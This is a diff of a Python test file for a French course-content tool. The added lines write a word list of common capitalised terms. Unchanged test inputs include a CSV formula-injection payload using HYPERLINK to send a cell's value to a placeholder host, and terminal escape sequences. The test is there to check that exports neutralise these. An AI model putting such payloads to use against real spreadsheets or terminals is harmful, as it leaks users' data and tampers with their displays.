@@ -58,6 +58,8 @@ def test_41_every_csv_cell_is_text_without_control_characters(
         r'title: "=HYPERLINK(\"http://x/?\"&A2;\"clic\") Chargé·e\e[2J"',
     )
     set_line(content_copy / "tags.yaml", "  label: Écoute", '  label: "Écoute\\a\\e]0;x"')
+    # A word in capitals is a sigle to define, or plain French (mots-courants.yaml).
+    (content_copy / "mots-courants.yaml").write_text("mots: [HYPERLINK, A2]\n", encoding="utf-8")
     assert invoke("check", "--content", str(content_copy))[0] == 0  # the title passes check
     folder = tmp_path / "classe"
     folder.mkdir()
@@ -243,6 +245,8 @@ def test_42_a_fence_or_a_list_marker_in_a_paragraph_stays_a_paragraph(
         flags=re.M | re.S,
     )
     fiche.write_text(text, encoding="utf-8")
+    # A word in capitals is a sigle to define, or plain French (mots-courants.yaml).
+    (content_copy / "mots-courants.yaml").write_text("mots: [HTML]\n", encoding="utf-8")
     assert invoke("check", "--content", str(content_copy))[0] == 0  # they pass check
     code, out, err = invoke("show", "cesf", "--markdown", "--content", str(content_copy))
     assert (code, err) == (0, "")
